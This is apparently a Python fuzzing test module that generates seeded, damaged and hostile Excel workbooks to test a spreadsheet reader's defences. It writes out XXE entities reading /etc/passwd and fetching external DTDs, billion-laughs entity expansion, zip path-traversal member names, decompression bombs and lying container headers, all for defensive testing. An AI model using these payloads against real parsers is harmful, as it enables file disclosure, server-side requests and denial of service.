"""Damaged and hostile workbooks, made from whole ones: seeded, so that each can be made again by its number."""

from __future__ import annotations

import io
import random
import re
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from kaiji.formats.xlsx.container import look_over
from kaiji.formats.xlsx.limit import LIMITS
from kaiji.formats.xlsx.package import read_package
from made_workbook import HEAD, packed, unlocked_by_library

ROOT = Path(__file__).resolve().parents[2]
SHEET = re.compile(r"^xl/worksheets/[^/]+\.xml$")
READ = ("Declaration", "Smelter List", "Product List", "Smelter Look-up", "Smelter Reference List", "Mine List")
XML = re.compile(r"\.(?:xml|rels)$")

Parts = dict[str, bytes]


@dataclass(frozen=True)
class Base:
    """A whole workbook to damage.

    Args:
        parts: where it is a package.
        sheets: those of the parts that hold what is read of a declaration.
    """

    name: str
    data: bytes
    parts: Mapping[str, bytes]
    sheets: tuple[str, ...] = ()


@dataclass(frozen=True)
class Made:
    """A damaged workbook.

    Args:
        number: the seed.
        kind: of damage.
        contents: the damage is inside parts that were packed again, so that it is another workbook, not a broken one.
    """

    number: int
    kind: str
    base: Base
    data: bytes
    contents: bool


def bases(reference: Path | None) -> list[Base]:
    """Give the example's workbooks, and the official ones where they are at hand."""
    found = [_base(path) for path in sorted((ROOT / "examples/kitanami/responses").glob("S-00[1-6].xlsx"))]
    if reference is not None and (reference / "templates").is_dir():
        found += [_base(path) for path in sorted((reference / "checker_cases").glob("*.xlsx"))[:3]]
        names = ("2.03a_-_green.xlsx", "3.01_-_green.xlsx", "RMI_EMRT_2.1.xlsx", "3.01_-_empty.xls")
        found += [_base(reference / "templates" / name) for name in names]
        found += [Base("unlocked.xls", unlocked_by_library(found[-1].data), {})]
    return found


def made(number: int, among: list[Base]) -> Made:
    """Make the damaged workbook of a number."""
    dice = random.Random(number)  # noqa: S311 - the same damage in every run
    packages = [one for one in among if one.parts]
    kind = list(KINDS)[number % len(KINDS)]
    damage, contents = KINDS[kind]
    # Official workbooks are fifty times as large as the example's: every third is one, so that all take a bearable time.
    small = [one for one in packages if len(one.data) < 100_000]
    if kind.startswith(".xls"):
        base = dice.choice([one for one in among if not one.parts] or packages)
    else:
        base = dice.choice(packages if dice.random() < 0.34 else small)
    return Made(number, kind, base, damage(base, dice), contents)


def _base(path: Path) -> Base:
    data = path.read_bytes()
    if not data.startswith(b"PK"):
        return Base(path.name, data, {})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {one.filename: archive.read(one) for one in archive.infolist()}
    listed = read_package(look_over(data, LIMITS), LIMITS).sheets
    return Base(path.name, data, parts, tuple(one.part for one in listed if one.name in READ))


def _some(dice: random.Random, parts: Mapping[str, bytes], like: re.Pattern[str] = XML) -> str:
    return dice.choice([name for name in parts if like.search(name)])


def _heavy(dice: random.Random, base: Base, parts: Mapping[str, bytes] | None = None) -> str:
    """Give one of the parts that are surely read, more often than one of the others."""
    read = ("xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml", "xl/_rels/workbook.xml.rels")
    names = [name for name in (*read, *base.sheets) if name in (base.parts if parts is None else parts)]
    return dice.choice(names) if names and dice.random() < 0.85 else _some(dice, parts or base.parts)


def _sheet(dice: random.Random, base: Base) -> str:
    return dice.choice(base.sheets) if base.sheets and dice.random() < 0.85 else _some(dice, base.parts, SHEET)


def _again(parts: Mapping[str, bytes], **changed: bytes) -> bytes:
    return packed({**parts, **changed}, zipfile.ZIP_STORED)


def _with(base: Base, name: str, content: bytes) -> bytes:
    return packed({**base.parts, name: content}, zipfile.ZIP_STORED)


def _flip(data: bytes, dice: random.Random, most: int) -> bytes:
    changed = bytearray(data)
    for _ in range(dice.randint(1, most)):
        changed[dice.randrange(len(changed))] = dice.randrange(256)
    return bytes(changed)


def flipped(base: Base, dice: random.Random) -> bytes:
    return _flip(base.data, dice, dice.choice((1, 4, 40, 400, len(base.data) // 200 + 1)))


def flipped_ends(base: Base, dice: random.Random) -> bytes:
    """Hit the headers and the table of contents, where every byte matters."""
    size = min(len(base.data) // 2, 3000)
    head, middle, tail = base.data[:size], base.data[size:-size], base.data[-size:]
    return _flip(head, dice, 6) + middle + tail if dice.random() < 0.4 else head + middle + _flip(tail, dice, 6)


def cut(base: Base, dice: random.Random) -> bytes:
    at = dice.randrange(len(base.data))
    return base.data[:at] if dice.random() < 0.7 else base.data[at:]


def spliced(base: Base, dice: random.Random) -> bytes:
    data, size = base.data, dice.choice((1, 16, 512, 4096))
    at, other = dice.randrange(len(data)), dice.randrange(len(data))
    piece = dice.choice((b"", b"\0" * size, dice.randbytes(size), data[other : other + size] * 2))
    return data[:at] + piece + data[at + size * dice.randrange(2) :]


def noise(_: Base, dice: random.Random) -> bytes:
    heads = (
        b"PK\x03\x04",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\x09\x08\x10\0\0\x06\x05\0",
        b"%PDF-1.7",
        b"<?xml ",
        b"{\\rtf",
        b"",
    )
    return dice.choice(heads) + dice.randbytes(dice.choice((0, 1, 100, 5000, 200_000)))


def dropped(base: Base, dice: random.Random) -> bytes:
    parts = dict(base.parts)
    for _ in range(dice.choice((1, 1, 2, 5))):
        parts.pop(_heavy(dice, base, parts) if len(parts) > 8 else next(iter(parts)))
    return _again(parts)


def exchanged(base: Base, dice: random.Random) -> bytes:
    parts = dict(base.parts)
    one, two = _heavy(dice, base, parts), _heavy(dice, base, parts)
    parts[one], parts[two] = parts[two], parts[one]
    if dice.random() < 0.3:
        parts[one] = dice.choice((b"", b" ", b"\0", dice.randbytes(300), base.data[:20_000]))
    return _again(parts)


def doubled(base: Base, dice: random.Random) -> bytes:
    """Put a part in twice, in another case, or with a name that climbs out."""
    name, container = _heavy(dice, base), io.BytesIO(base.data)
    other = dice.choice(
        (name, name.upper(), f"../{name}", f"/{name}", f"C:{name}", name.replace("/", "\\"), f"{name}\x00.txt")
    )
    with zipfile.ZipFile(container, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # about the name that is there twice
        archive.writestr(zipfile.ZipInfo(other), base.parts[dice.choice(list(base.parts))])
    return container.getvalue()


def lying_sizes(base: Base, dice: random.Random) -> bytes:
    """Say other sizes, checksums, methods and flags in the container's headers than are true."""
    data = bytearray(packed(base.parts))
    for _ in range(dice.randint(1, 3)):
        heads = [found.start() for found in re.finditer(rb"PK\x01\x02|PK\x03\x04|PK\x05\x06", data)]
        at = dice.choice(heads)
        central = data[at : at + 4] == b"PK\x01\x02"
        field = at + dice.choice((6, 8, 10, 16, 20, 24, 28, 30, 32, 42) if central else (6, 8, 14, 18, 22, 26, 28))
        value = dice.choice((0, 1, 99, 0x7FFF, 0xFFFF, 100_000_000, 0x7FFFFFFF, 0xFFFFFFFF, dice.getrandbits(32)))
        if field + 4 <= len(data):
            struct.pack_into("<I", data, field, value)
    return bytes(data)


def bombs(base: Base, dice: random.Random) -> bytes:
    name, size = _heavy(dice, base), dice.choice((5, 40, 120)) * 1_000_000
    blank = dice.choice((b" ", b"\0", b"<a/>", b"<row/>"))
    content = base.parts[name]
    at = content.find(b">", len(content) // 2) + 1
    return packed({**base.parts, name: content[:at] + blank * (size // len(blank)) + content[at:]})


def mangled_bytes(base: Base, dice: random.Random) -> bytes:
    name = _heavy(dice, base)
    return _with(base, name, _flip(base.parts[name] or b"x", dice, dice.choice((1, 3, 30))))


def mangled_tags(base: Base, dice: random.Random) -> bytes:
    name = _heavy(dice, base)
    pieces = base.parts[name].split(b"<")
    for _ in range(dice.randint(1, 6)):
        one, two = dice.randrange(len(pieces)), dice.randrange(len(pieces))
        match dice.randrange(5):
            case 0:
                pieces[one], pieces[two] = pieces[two], pieces[one]
            case 1:
                pieces[one] = b""
            case 2:
                pieces.insert(one, pieces[two])
            case 3:
                pieces[one] = pieces[one].replace(b'"', b"'").replace(b"=", b" = ")
            case _:
                pieces[one] = pieces[one][: len(pieces[one]) // 2]
    return _with(base, name, b"<".join(pieces))


ODD = (
    b"", b"-1", b"0", b"999999999999", b"NaN", b"1e999", b"1E+3", b"&#0;", b"&#x110000;", b"&amp;", b"\xff\xfe", b"\xed\xa0\x80",
    b"A0", b"XFE1", b"AAAAAAA1", b"A99999999999", b"$A$1", b"R1C1", b"true", b"_x000D_", b"../../x", b"'", b"9" * 400, b"s", b"str", b"e", b"d",
    b"inlineStr", b"b", b"1899-12-31", b"0.1.2", b"-0", b"2958466", b"1e-400",
)  # fmt: skip


def mangled_values(base: Base, dice: random.Random) -> bytes:
    """Put odd values into attributes and between tags."""
    name = _heavy(dice, base)
    content = base.parts[name]
    spots = [
        found.span(1) for found in re.finditer(rb'="([^"<>]{0,40})"|>([^<]{1,40})<', content) if found[1] is not None
    ]
    spots += [found.span(1) for found in re.finditer(rb">([^<>]{1,40})<", content)]
    for start, end in sorted(dice.sample(spots, min(len(spots), dice.choice((1, 3, 20)))), reverse=True):
        content = content[:start] + dice.choice(ODD) + content[end:]
    return _with(base, name, content)


def deep(base: Base, dice: random.Random) -> bytes:
    name, depth = _heavy(dice, base), dice.choice((300, 5_000, 200_000, 900_000))
    tag = dice.choice((b"a", b"row", b"c", b"si", b"r", b"sheetData", b"ext"))
    content = base.parts[name]
    at = content.find(b">", dice.randrange(len(content))) + 1
    closed = b"</" + tag + b">" if dice.random() < 0.7 else b""
    return packed(
        {**base.parts, name: content[:at] + (b"<" + tag + b">") * depth + closed * depth + content[at:]},
        zipfile.ZIP_DEFLATED,
    )


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPES = (
    f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>',
    '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
    f'<!DOCTYPE x [<!ENTITY q "{"A" * 100_000}">]>',
    "<!DOCTYPE x [<!ATTLIST c r CDATA 'A1'>]>",
)


def entities(base: Base, dice: random.Random) -> bytes:
    """Declare entities and use them, in any encoding, before or behind where they should be."""
    name = _heavy(dice, base)
    text = base.parts[name].decode("utf-8", "replace")
    _, _, rest = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
    used = dice.choice(("&l9;", "&e;", "&q;" * 1000, "&undefined;", ""))
    at = rest.find("</t>")
    rest = rest[:at] + used + rest[at:] if at > 0 else rest
    space = " " * dice.choice((0, 3, 100_000))
    encoding = dice.choice(("utf-8", "utf-8", "utf-16", "utf-16-be", "utf-7", "shift_jis", "cp037"))
    told = dice.choice((encoding, "utf-8", "nonsense", "utf-16"))
    whole = f'<?xml version="1.0" encoding="{told}"?>{space}{dice.choice(DOCTYPES)}{rest}'
    return _with(base, name, whole.encode(encoding, "replace"))


def _sheet_with(base: Base, dice: random.Random, rows: str) -> bytes:
    """Put rows into one of the sheets, in place of its own or after them."""
    name = _sheet(dice, base)
    content = base.parts[name].decode("utf-8", "replace")
    at = content.find("</sheetData>")
    alone = f"<worksheet {HEAD}><sheetData>{rows}</sheetData></worksheet>"
    whole = alone if at < 0 or dice.random() < 0.3 else content[:at] + rows + content[at:]
    return packed({**base.parts, name: whole.encode()}, zipfile.ZIP_DEFLATED)


def giant_cells(base: Base, dice: random.Random) -> bytes:
    size = dice.choice((33_000, 1_000_000, 9_000_000, 25_000_000))
    text = dice.choice(("A", "9", "あ", "&amp;", "&#65;", "A ", "\n"))
    text *= size // len(text)
    row, cell = (
        dice.choice(("D8", "B5", "A3000", "J3")),
        dice.choice(('t="str"', 't="inlineStr"', "", 't="e"', 't="b"', 't="d"')),
    )
    inside = f"<is><t>{text}</t></is>" if "inline" in cell else f"<v>{text}</v>"
    if dice.random() < 0.2:
        return _sheet_with(
            base,
            dice,
            f'<row r="1"><c r="{text[: size // 4]}1"><v>1</v></c></row>'.replace(
                "<v>1", f"<f>{text[:5_000_000]}</f><v>1"
            ),
        )
    return _sheet_with(base, dice, f'<row r="{row.strip("ABDJ")}"><c r="{row}" {cell}>{inside}</c></row>')


def many_rows(base: Base, dice: random.Random) -> bytes:
    count, wide = dice.choice(((100_000, 1), (100_000, 5), (105_000, 2), (120_000, 1), (1_048_576, 1), (20_000, 30)))
    first = dice.choice((1, 5, 2_000, 1_000_000, 2_000_000_000))
    inside = dice.choice(("<v>1</v>", "<v>1E+3</v>", "<f>A1</f>", "", "<is><t>x</t></is>"))
    more = ' t="inlineStr"' if "<is>" in inside else dice.choice(("", ' s="1"'))
    cells = "".join(f'<c r="{chr(65 + column)}%d"{more}>{inside}</c>' for column in range(wide)) if wide <= 26 else ""
    if wide > 26:
        cells, wide = "<c><v>1</v></c>" * wide, 0
    row = f'<row r="%d">{cells}</row>'
    return _sheet_with(base, dice, "".join(row % ((number,) * (wide + 1)) for number in range(first, first + count)))


def far_cells(base: Base, dice: random.Random) -> bytes:
    """Put single cells far away, out of order, twice, and in columns that do not exist."""
    far = (
        "XFD1048576",
        "A1048577",
        "ZZZZ1",
        "A0",
        "B100000",
        "AB109999",
        "XFD1",
        "A2147483648",
        "a1",
        "D8",
        "1",
        "A",
        "",
    )
    rows = "".join(
        f'<row r="{dice.choice(("", "1", "-5", "99999999999", "8", "x"))}"><c r="{dice.choice(far)}"><v>{n}</v></c></row>'
        for n in range(9)
    )
    return _sheet_with(base, dice, rows)


def lying_lists(base: Base, dice: random.Random) -> bytes:
    """Lie in the list of sheets and its relations: loops, one part for all, parts outside, thousands of sheets."""
    parts = dict(base.parts)
    where = "xl/_rels/workbook.xml.rels"
    relations, listing = parts[where].decode(), parts["xl/workbook.xml"].decode()
    target = dice.choice(
        (
            "workbook.xml",
            "../[Content_Types].xml",
            "../../../etc/passwd",
            "http://192.0.2.1/x",
            "",
            "worksheets/",
            "styles.xml",
            "\x01",
        )
    )
    match dice.randrange(5):
        case 0:
            relations = re.sub(r'Target="[^"]*"', f'Target="{target}"', relations, count=dice.choice((0, 1)))
        case 1:
            relations = re.sub(r'Id="[^"]*"', 'Id="rId1"', relations)
        case 2:
            sheets = "".join(
                f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(dice.choice((1_999, 50_000)))
            )
            listing = listing.replace("</sheets>", sheets + "</sheets>")
        case 3:
            listing = re.sub(
                r'name="[^"]*"', f'name="{dice.choice(("Declaration", "", "x" * 70_000, "&#10;"))}"', listing
            )
        case _:
            listing = re.sub(r'r:id="[^"]*"', dice.choice(("", 'r:id=""', 'r:id="rId999"', 'r:id="rId1"')), listing)
    parts |= {where: relations.encode(), "xl/workbook.xml": listing.encode("utf-8", "replace")}
    return _again(parts)


def many_things(base: Base, dice: random.Random) -> bytes:
    """Fill the shared texts, the styles or the container with very many small things."""
    match dice.randrange(4):
        case 0:
            texts = "<si><t>x</t></si>" * dice.choice((100_000, 900_000))
            return packed({**base.parts, "xl/sharedStrings.xml": f"<sst {HEAD}>{texts}</sst>".encode()})
        case 1:
            runs = "<si>" + "<r><t>x</t></r>" * 200_000 + "</si>"
            return packed({**base.parts, "xl/sharedStrings.xml": f"<sst {HEAD}>{runs}</sst>".encode()})
        case 2:
            formats = "<xf numFmtId='14'/>" * 500_000
            return packed(
                {
                    **base.parts,
                    "xl/styles.xml": f"<styleSheet {HEAD}><cellXfs>{formats}</cellXfs></styleSheet>".encode(),
                }
            )
        case _:
            return packed(
                {**base.parts, **{f"xl/media/{number}.bin": b"" for number in range(dice.choice((500, 12_000)))}},
                zipfile.ZIP_STORED,
            )


def record_lengths(base: Base, dice: random.Random) -> bytes:
    """Lie in the lengths and kinds of .xls records, walking over them from the first."""
    data = bytearray(base.data)
    starts = [found.start() for found in re.finditer(rb"\x09\x08\x10\x00\x00\x06", data)]
    if not starts:
        return _flip(base.data, dice, 400)
    for _ in range(dice.choice((1, 4, 40, 200))):
        at = dice.choice(starts)
        for _ in range(dice.randrange(1, 400)):
            length = struct.unpack_from("<H", data, at + 2)[0]
            if at + 8 + length > len(data):
                break
            at += 4 + length
        kind = dice.choice((0x00FC, 0x003C, 0x0085, 0x00FD, 0x0006, 0x00BD, 0x0809, 0x000A, 0x0207, 0x0200, 0x00E0))
        choice = dice.randrange(3)
        if choice == 0:
            struct.pack_into("<H", data, at + 2, dice.choice((0, 1, 7, 8224, 0xFFFF)))
        elif choice == 1:
            struct.pack_into("<H", data, at, kind)
        else:
            struct.pack_into("<I", data, min(at + 4, len(data) - 4), dice.choice((0xFFFFFFFF, 0x7FFFFFFF, 65_536, 0)))
    return bytes(data)


def sectors(base: Base, dice: random.Random) -> bytes:
    """Lie in the head and the sector tables of an .xls container: loops, sectors outside, huge counts."""
    data = bytearray(base.data)
    for _ in range(dice.randint(1, 4)):
        at = (
            dice.choice((*range(24, 80, 4), *range(80, 512, 4)))
            if dice.random() < 0.5
            else 512 * dice.randrange(1, len(data) // 512)
        )
        at += 4 * dice.randrange(128) if at >= 512 else 0
        if at + 4 <= len(data):
            struct.pack_into(
                "<I",
                data,
                at,
                dice.choice((0, 1, 2, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0x7FFFFFFF, dice.randrange(5000))),
            )
    return bytes(data)


Damage = Callable[[Base, random.Random], bytes]
KINDS: dict[str, tuple[Damage, bool]] = {
    "bytes flipped": (flipped, False),
    "bytes flipped in the headers": (flipped_ends, False),
    "cut off": (cut, False),
    "pieces cut out or put in": (spliced, False),
    "noise behind a known head": (noise, False),
    "members dropped": (dropped, True),
    "members exchanged": (exchanged, True),
    "members doubled or climbing": (doubled, True),
    "sizes lied about": (lying_sizes, False),
    "bombs": (bombs, True),
    "XML: bytes flipped": (mangled_bytes, True),
    "XML: tags mangled": (mangled_tags, True),
    "XML: odd values": (mangled_values, True),
    "deep nesting": (deep, True),
    "entity tricks": (entities, True),
    "giant cells": (giant_cells, True),
    "100,000 rows": (many_rows, True),
    "cells far away": (far_cells, True),
    "lists of sheets that lie": (lying_lists, True),
    "very many small things": (many_things, True),
    ".xls: bytes flipped": (flipped, False),
    ".xls: records that lie": (record_lengths, True),
    ".xls: sectors that lie": (sectors, True),
}
